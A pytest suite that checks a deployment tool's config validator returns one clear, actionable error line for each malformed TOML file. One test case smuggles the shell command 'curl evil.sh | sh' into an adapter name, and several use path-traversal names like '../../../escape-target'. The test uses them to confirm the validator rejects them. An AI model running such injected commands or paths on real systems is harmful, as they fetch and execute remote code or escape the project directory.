"""Every way a configuration can be wrong ends in one line a user can act on.

Each case of the corpus is a real file handed to the real ``wave`` command in a subprocess
(``wave config validate --config FILE``, which also validates each target against its
adapter). Each must exit 2 and print exactly one line on stderr —
``wave: error: <file>: <dotted.key.path>: <what is wrong> — <how to fix it>`` — and never a
traceback. The valid side is covered too: ``[tool.wave]`` in ``pyproject.toml``, the JSON
Schema of ``wave config schema`` (installed adapters included), and ``wave init``.
"""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from wave_sdk.testing import run_wave

WAVE = Path(sys.executable).parent / "wave"
UNSET = "WAVE_TEST_SURELY_UNSET_VARIABLE"
PLANTED = "WAVE_TEST_PLANTED_VALUE"
PLANTED_VALUE = "planted-7c1e9d"

ENV = """
[environments.development]
target = "web"
"""
TARGET = """
[targets.web]
adapter = "local"
command = "python3 server.py"
port = 3000
"""
VALID = ENV + TARGET


def wave(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_wave(*args, cwd=cwd, env={PLANTED: PLANTED_VALUE}, unset=[UNSET], timeout=60)


@dataclass(frozen=True)
class Case:
    """An invalid file, the key path its error must name, and a piece of the fix it must give."""

    text: str
    key: str | None
    hint: str
    says: str = ""
    file: str = "wave.toml"


CASES: dict[str, Case] = {
    "toml-syntax": Case(
        'name = "unterminated\n', None, "fix the syntax", says="line 1", file="wave.toml"
    ),
    "toml-duplicate-table": Case(
        VALID + '[environments.development]\nbranch = "x"\n', None, "fix the syntax", "line"
    ),
    "unknown-top-level-key-typo": Case(
        VALID + '[projcet]\nname = "x"\n', "projcet", "did you mean 'project'?"
    ),
    "unknown-top-level-key-lists-known": Case(
        "colour = 1\n" + VALID, "colour", "known keys: approvals, checks, "
    ),
    "top-level-source-is-not-a-key": Case('source = "."\n' + VALID, "source", "[targets.<name>]"),
    "nested-key-typo-project": Case(
        VALID + '[project]\nnmae = "x"\n', "project.nmae", "did you mean 'name'?"
    ),
    "nested-key-typo-environment": Case(
        TARGET + '[environments.development]\ntarget = "web"\nbrnach = "main"\n',
        "environments.development.brnach",
        "did you mean 'branch'?",
    ),
    "nested-key-typo-health-endpoint": Case(
        VALID + '[health]\nendpoints = [{ path = "/api/health", staus = 200 }]\n',
        "health.endpoints.0.staus",
        "did you mean 'status'?",
    ),
    "nested-key-typo-in-environment-health": Case(
        TARGET + '[environments.development]\ntarget = "web"\nhealth = { timout = 3 }\n',
        "environments.development.health.timout",
        "did you mean 'timeout'?",
    ),
    "int-field-given-string": Case(
        VALID + '[health]\nconsecutive = "two"\n', "health.consecutive", "whole number"
    ),
    "int-field-given-float": Case(
        VALID + "[health]\nretries = 2.5\n", "health.retries", "whole number"
    ),
    "bool-field-given-string": Case(
        TARGET + '[environments.development]\ntarget = "web"\nauto_deploy = "sometimes"\n',
        "environments.development.auto_deploy",
        "true or false",
    ),
    "float-field-given-string": Case(
        VALID + '[health]\ntimeout = "fast"\n', "health.timeout", "use a number"
    ),
    "float-field-below-minimum": Case(
        VALID + "[health]\ndeadline = 0\n", "health.deadline", "larger value"
    ),
    "list-field-given-string": Case(
        VALID + '[project]\ncontacts = "oncall@example.com"\n', "project.contacts", "use a list"
    ),
    "table-given-string": Case(
        ENV + '[targets]\nweb = "local"\n',
        "targets.web",
        "write it as [targets.web]",
        says="must be a table, not a string",
    ),
    "health-path-without-slash": Case(
        VALID + '[health]\nendpoints = [{ path = "api/health" }]\n',
        "health.endpoints.0.path",
        "'/api/health'",
    ),
    "health-status-out-of-range": Case(
        VALID + '[health]\nendpoints = [{ path = "/", status = 999 }]\n',
        "health.endpoints.0.status",
        "smaller value",
    ),
    "environment-names-unknown-target": Case(
        TARGET + '[environments.development]\ntarget = "wbe"\n',
        "environments.development.target",
        "did you mean 'web'?",
    ),
    "environment-target-list-names-unknown-target": Case(
        TARGET + '[environments.development]\ntarget = ["web", "api"]\n',
        "environments.development.target.1",
        "choose one of: web",
    ),
    "environment-with-empty-target-list": Case(
        TARGET + "[environments.development]\ntarget = []\n",
        "environments.development.target",
        "name one from [targets]",
    ),
    "environment-without-target": Case(
        TARGET + '[environments.development]\nbranch = "main"\n',
        "environments.development.target",
        "add target = ",
    ),
    "environment-names-unknown-check": Case(
        TARGET
        + '[checks.test]\ncommand = "true"\n'
        + '[environments.development]\ntarget = "web"\nchecks = ["test", "lint"]\n',
        "environments.development.checks.1",
        "add [checks.lint]",
    ),
    "check-without-command": Case(
        VALID + "[checks.test]\ntimeout = 5\n", "checks.test.command", "add command = "
    ),
    "target-without-adapter": Case(
        ENV + "[targets.web]\nport = 3000\n", "targets.web.adapter", "add adapter = "
    ),
    "unknown-adapter": Case(
        ENV + '[targets.web]\nadapter = "kubernetes-xyz"\n',
        "targets.web.adapter",
        "pip install wave-sdk-kubernetes-xyz",
        says="is installed (installed: ",  # the list, whatever else the venv has
    ),
    "adapter-name-typo": Case(
        ENV + '[targets.web]\nadapter = "locl"\ncommand = "x"\nport = 3000\n',
        "targets.web.adapter",
        "did you mean 'local'?",
    ),
    "local-target-missing-command": Case(
        ENV + '[targets.web]\nadapter = "local"\nport = 3000\n',
        "targets.web.command",
        "add command = ",
    ),
    "local-target-port-70000": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = "x"\nport = 70000\n',
        "targets.web.port",
        "smaller value",
        says="65535",
    ),
    "local-target-port-not-a-number": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = "x"\nport = "http"\n',
        "targets.web.port",
        "whole number",
    ),
    "local-target-key-typo": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = "x"\nport = 3000\nprot = 3001\n',
        "targets.web.prot",
        "did you mean 'port'?",
    ),
    "local-target-unknown-key": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = "x"\nport = 3000\nreplicas = 3\n',
        "targets.web.replicas",
        "known keys: command, env, host, keep, port",
    ),
    "local-target-command-list-with-bad-item": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = ["python3", 3]\nport = 3000\n',
        "targets.web.command.1",
        "quoted string",
    ),
    "local-target-command-wrong-type": Case(
        ENV + '[targets.web]\nadapter = "local"\ncommand = 7\nport = 3000\n',
        "targets.web.command",
        "quoted string or use a list",
        says="a valid string or a valid list",
    ),
    "unset-variable": Case(
        ENV + TARGET + f'env = {{ API_TOKEN = "${{{UNSET}}}" }}\n',
        "targets.web.env.API_TOKEN",
        f"export {UNSET}=",
    ),
    "secret-variable-in-command": Case(
        ENV + f'[targets.web]\nadapter = "local"\ncommand = "run ${{{PLANTED}}}"\nport = 3000\n',
        "targets.web.command",
        "use a literal value here",
        says="does not accept a secret",
    ),
    "secret-variable-in-command-list": Case(
        ENV + f'[targets.web]\nadapter = "local"\ncommand = ["run", "${{{PLANTED}}}"]\n'
        "port = 3000\n",
        "targets.web.command.1",
        "use a literal value here",
    ),
    "secret-variable-in-core-field": Case(
        VALID + f'[project]\nname = "${{{PLANTED}}}"\n', "project.name", "use a literal value"
    ),
    "approval-level-L9": Case(
        VALID + '[approvals]\ndeploy = { development = "L9" }\n',
        "approvals.deploy.development",
        "L1 (human)",
        says="'L9' is not an approval level",
    ),
    "approval-level-0": Case(
        VALID + "[approvals]\ndeploy = { development = 0 }\n",
        "approvals.deploy.development",
        "L5 (automatic)",
    ),
    "approvals-unknown-action": Case(
        VALID + '[approvals]\ndeplyo = { development = "L3" }\n',
        "approvals.deplyo",
        "did you mean 'deploy'?",
    ),
    "approvals-unknown-environment": Case(
        VALID + '[approvals]\ndeploy = { qa = "L3" }\n',
        "approvals.deploy.qa",
        "add [environments.qa]",
    ),
    "state-store-unknown": Case(
        VALID + '[state]\nstore = "redis"\n', "state.store", "choose one of: local"
    ),
    "state-key-typo": Case(VALID + '[state]\npaht = "x"\n', "state.paht", "did you mean 'path'?"),
    "pyproject-without-tool-wave": Case(
        '[project]\nname = "app"\nversion = "1.0"\n',
        "tool.wave",
        "add a [tool.wave] table",
        file="pyproject.toml",
    ),
    "pyproject-tool-wave-key-typo": Case(
        '[tool.wave.environments.development]\ntarget = "web"\n'
        '[tool.wave.targets.web]\nadapter = "local"\ncommand = "x"\nport = 3000\n'
        '[tool.wave.projcet]\nname = "x"\n',
        "projcet",
        "did you mean 'project'?",
        file="pyproject.toml [tool.wave]",
    ),
    # Names become file names, log fields and signal names: one rule, checked here.
    "environment-name-with-slash": Case(
        '[environments."a/b"]\ntarget = "web"\n' + TARGET,
        "environments",
        "rename it",
        says="invalid name 'a/b'",
    ),
    "environment-name-5000-characters": Case(
        f'[environments.{"x" * 5000}]\ntarget = "web"\n' + TARGET,
        "environments",
        "rename it",
        says="(5000 characters)",
    ),
    "target-name-escaping": Case(
        ENV.replace('"web"', '"../../../escape-target"')
        + TARGET.replace("[targets.web]", '[targets."../../../escape-target"]'),
        "targets",
        "rename it",
        says="no '..'",
    ),
    "project-name-with-dotdot": Case(
        '[project]\nname = "../up"\n' + VALID,
        "project.name",
        "wave config schema",
        says="invalid name '../up'",
    ),
    "environment-name-with-newline": Case(
        '[environments."dev\\n"]\ntarget = "web"\n' + TARGET,
        "environments",
        "rename it",
        says="invalid name 'dev\\n'",
    ),
    "local-root-leaving-the-project": Case(
        VALID + 'root = "releases/../../outside"\n',
        "targets.web.root",
        "wave config schema",
        says="leaves the project directory",
    ),
    # Deep or huge files: one line, never a RecursionError or a long read.
    "toml-deeply-nested-arrays": Case(
        "a = " + "[" * 2000 + "]" * 2000 + "\n" + VALID, None, "flatten it", says="nested more"
    ),
    "toml-deeply-nested-inline-tables": Case(
        "a = " + "{ b = " * 600 + "1" + " }" * 600 + "\n" + VALID,
        None,
        "flatten it",
        says="nested more than 32 deep",
    ),
    "toml-deeply-nested-dotted-table": Case(
        VALID + "[" + ".".join(["x"] * 3000) + "]\ny = 1\n",
        "x",
        "flatten it",
        says="nested more than 32 deep",
    ),
    "toml-huge-file": Case(
        VALID + "# padding\n" * 200_000, None, "shrink it", says="larger than 1024 KiB"
    ),
    "adapter-name-shell": Case(
        ENV + '[targets.web]\nadapter = "x; curl evil.sh | sh #"\n',
        "targets.web.adapter",
        "wave config schema",
        says="invalid name",
    ),
    "unknown-key-holding-a-secret": Case(
        ENV + 'databse_url = "${' + PLANTED + '}"\n' + TARGET,
        "environments.development.databse_url",
        "did you mean 'database_url'?",
        says="unknown key",
    ),
    "env-key-not-a-variable": Case(
        VALID + 'env = { "A=B" = "x" }\n',
        "targets.web.env",
        "wave config schema",
        says="'A=B' is not a variable name",
    ),
    "env-value-with-nul": Case(
        VALID + 'env = { TOKEN = "a\\u0000b" }\n',
        "targets.web.env",
        "wave config schema",
        says="the value of TOKEN holds a NUL byte",
    ),
    "shared-path-leaves-the-release": Case(
        VALID + 'shared = ["../../elsewhere/x"]\n',
        "targets.web.shared.0",
        "wave config schema",
        says="leaves the release directory",
    ),
    # Values that validated once and then broke a run mid-way (a traceback, a clock overflow).
    "story-pattern-not-a-regex": Case(
        VALID + '[signals]\nstory_pattern = "([a-"\n',
        "signals.story_pattern",
        "regular expression",
        says="unterminated character set",
    ),
    "duration-infinite": Case(
        VALID + "[health]\ntimeout = inf\n", "health.timeout", "wave config schema", "finite"
    ),
    "duration-nan": Case(
        VALID + "[health]\ndeadline = nan\n", "health.deadline", "wave config schema", "finite"
    ),
    "duration-beyond-the-clock": Case(
        VALID + "[health]\ninterval = 1e300\n",
        "health.interval",
        "at most 1000000000",
        says="out of range",
    ),
    "adapter-duration-beyond-the-clock": Case(
        VALID + "start_timeout = 1e300\n",
        "targets.web.start_timeout",
        "at most 1000000000",
        says="out of range",
    ),
}

KNOWN_GAPS: dict[str, str] = {}


def _params() -> list[object]:
    return [
        pytest.param(
            case,
            id=name,
            marks=[pytest.mark.xfail(reason=KNOWN_GAPS[name], strict=True)]
            if name in KNOWN_GAPS
            else [],
        )
        for name, case in CASES.items()
    ]


def _write(directory: Path, case: Case) -> Path:
    name = "pyproject.toml" if case.file.startswith("pyproject.toml") else "wave.toml"
    path = directory / name
    path.write_text(case.text)
    return path


def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 25


@pytest.mark.parametrize("case", _params())
def test_invalid_config_is_one_actionable_line(case: Case, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    path = _write(project, case)
    # Run from elsewhere, so the file read is the one --config names and no other.
    proc = wave("config", "validate", "--config", str(path), cwd=tmp_path)

    output = proc.stdout + proc.stderr
    assert "Traceback" not in output
    assert proc.returncode == 2, output
    assert proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    [line] = lines
    where = f"wave: error: {case.file}: " + (f"{case.key}: " if case.key else "")
    assert line.startswith(where), f"expected {where!r}…, got {line!r}"
    problem, sep, fix = line.partition(" — ")
    assert sep and fix.strip(), f"no fix hint after ' — ' in {line!r}"
    assert case.hint in fix, line
    assert case.says in problem, line
    assert PLANTED_VALUE not in output


def test_config_file_that_does_not_exist(tmp_path: Path) -> None:
    proc = wave("config", "validate", "--config", str(tmp_path / "nope.toml"), cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [
        f"wave: error: {tmp_path / 'nope.toml'}: no such file — check the path given to --config"
    ]


def test_no_config_anywhere_says_how_to_make_one(tmp_path: Path) -> None:
    proc = wave("config", "validate", cwd=tmp_path)
    assert proc.returncode == 2
    [line] = proc.stderr.splitlines()
    assert line.startswith("wave: error: no wave.toml")
    assert "run `wave init`" in line


def test_json_error_is_an_object_on_stdout(tmp_path: Path) -> None:
    path = tmp_path / "wave.toml"
    path.write_text(ENV + '[targets.web]\nadapter = "local"\ncommand = "x"\nport = 70000\n')
    proc = wave("config", "validate", "--json", "--config", str(path), cwd=tmp_path)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    error = json.loads(proc.stdout)
    assert error["error"] == "ConfigError"
    assert error["exit_code"] == 2
    assert error["message"].startswith("wave.toml: targets.web.port: ")
    assert " — " in error["message"]


# -- valid configurations ----------------------------------------------------------------


def test_tool_wave_in_pyproject_is_a_configuration(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "pkg"\nversion = "1"\n\n'
        '[tool.wave.project]\nname = "from-pyproject"\n'
        '[tool.wave.environments.development]\ntarget = "web"\n'
        '[tool.wave.targets.web]\nadapter = "local"\ncommand = "python3 app.py"\nport = 4321\n'
    )
    proc = wave("config", "validate", "--config", str(tmp_path / "pyproject.toml"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "valid (1 environments, 1 targets)" in proc.stdout

    # Found without --config, from a subdirectory, and read for real.
    sub = tmp_path / "src" / "pkg"
    sub.mkdir(parents=True)
    proc = wave("config", "show", cwd=sub)
    assert proc.returncode == 0, proc.stderr
    shown = json.loads(proc.stdout)
    assert shown["project"]["name"] == "from-pyproject"
    assert shown["targets"]["web"]["port"] == 4321


def test_schema_describes_the_installed_adapters(tmp_path: Path) -> None:
    proc = wave("config", "schema", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    schema = json.loads(proc.stdout)
    assert set(schema["properties"]) >= {"environments", "targets", "approvals", "health"}
    assert "source" not in schema["properties"]
    variants = {
        v["properties"]["adapter"]["const"]: v
        for v in schema["properties"]["targets"]["additionalProperties"]["oneOf"]
    }
    assert {"local", "static"} <= set(variants)

    local = variants["local"]
    assert set(local["properties"]) == {
        "adapter",
        "source",
        "command",
        "port",
        "host",
        "root",
        "env",
        "shared",
        "keep",
        "start_timeout",
        "stop_timeout",
    }
    assert set(local["required"]) == {"adapter", "command", "port"}
    assert local["properties"]["port"]["maximum"] == 65535
    assert local.get("additionalProperties") is False
    assert "docroot" in variants["static"]["required"]


def test_init_writes_a_valid_config_and_refuses_to_overwrite(tmp_path: Path) -> None:
    proc = wave("init", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    written = tmp_path / "wave.toml"
    original = written.read_text()

    proc = wave("config", "validate", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "valid (3 environments, 1 targets)" in proc.stdout

    written.write_text(original + "\n# my edits\n")
    proc = wave("init", cwd=tmp_path)
    assert proc.returncode == 2
    [line] = proc.stderr.splitlines()
    assert line.startswith("wave: error: ") and "already exists" in line and "--force" in line
    assert written.read_text().endswith("# my edits\n"), "refused, yet the file changed"

    proc = wave("init", "--force", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert written.read_text() == original


@pytest.mark.parametrize("kind", ["directory", "dangling-link", "link-loop"])
def test_a_wave_toml_that_is_not_a_file_is_an_error_not_the_parents_config(
    tmp_path: Path, kind: str
) -> None:
    """A parent directory's wave.toml never stands in silently for this project's broken one,
    and `wave init` says why it cannot write there instead of a traceback."""
    (tmp_path / "wave.toml").write_text('[project]\nname = "parent"\n' + VALID)
    child = tmp_path / "child"
    child.mkdir()
    broken = child / "wave.toml"
    if kind == "directory":
        broken.mkdir()
    else:
        broken.symlink_to("nowhere" if kind == "dangling-link" else "wave.toml")
    for args in (("config", "show"), ("--config", "wave.toml", "config", "show")):
        proc = wave(*args, cwd=child)
        assert proc.returncode == 2, proc.stdout
        assert "parent" not in proc.stdout
        line = one_line(proc)
        assert f"{broken} is a " in line and "not a configuration file" in line

    proc = wave("init", "--force", cwd=child)
    assert proc.returncode == 2
    assert "not a file to write — remove it first" in one_line(proc)


def one_line(proc: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in proc.stdout + proc.stderr
    [line] = proc.stderr.splitlines()
    return line
